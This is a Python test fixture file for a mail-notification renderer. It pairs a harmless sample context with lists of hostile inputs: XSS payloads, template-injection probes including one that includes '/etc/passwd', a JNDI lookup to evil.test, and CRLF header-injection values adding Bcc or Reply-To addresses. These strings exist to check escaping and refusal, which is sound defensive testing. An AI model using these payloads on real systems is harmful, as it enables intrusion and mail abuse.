"""Values that the tests of this folder share: a harmless context, hostile strings."""

from __future__ import annotations

from datetime import UTC, date, datetime
from itertools import product
from typing import Any, Final

from notifications.rendering import MailContext

SAMPLE: Final[dict[str, Any]] = {
    "to": "aufgaben@jobcenter.example.test",
    "key": "8f1c:H01:offer:jobcenter",
    "written_at": datetime(2022, 2, 14, 8, 0, tzinfo=UTC),
    "addressee": "Jobcenter Rhein-Kreis Neuss",
    "office": "Kommunales Integrationszentrum Rhein-Kreis Neuss",
    "audience": "agency",
    "case_number": "KIM-7F3K-92QD",
    "link": "http://127.0.0.1:8000/l/0123456789abcdef",
    "due_on": date(2022, 2, 17),
    "link_until": date(2022, 5, 15),
}

HOSTILE: Final = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</title><h1>Neu</h1>",
    "<!-- ",
    "]]>",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "%(key)s %s {0}",
    "&lt;b&gt; &#x202e;",
    "javascript:alert(1)",
    "Kasım Ünal-Öztürk \U0001f600",
    "a" * 160,
)
"""Harmless as text, dangerous as markup or template."""

HOSTILE_TEXTS: Final = (
    *HOSTILE,
    *(
        f"{start}{middle}{end}"[:160]
        for start, middle, end in product(
            ("", "Yılmaz ", "</p>", '"', "\\", "--><"),
            (
                "<svg/onload=alert(1)>",
                "<iframe src=//evil.test>",
                "{{ config }}",
                "{% raw %}",
                "%s%n%x",
                "\u0130\u015f\u011e\u0110",
                "%(addressee)s",
                "${jndi:ldap://evil.test}",
            ),
            ("", ">", "' x='", " <!--"),
        )
    ),
)
"""Some 200 of them: every opening with every payload and every ending."""

HOSTILE_LINES: Final = (
    "Neuss\r\nBcc: x@evil.test",
    "Neuss\nReply-To: x@evil.test",
    "Neuss\rX",
    "Neuss\x00",
    "Neuss\x0b\x0c\x1c\x85",
    "Neuss\u2028X",
    "\u202egnurhabsA",
    "\u200bNeuss\ufeff",
    "=?utf-8?b?DQpSZXBseS1UbzogeEBldmlsLnRlc3Q=?=",
    "=?utf-8?q?=0D=0ABcc:=20x@evil.test?=",
    "\ud800",
)
"""Refused in any line of a mail."""


def context(**changes: Any) -> MailContext:
    """A harmless context with some values changed."""
    return MailContext(**{**SAMPLE, **changes})
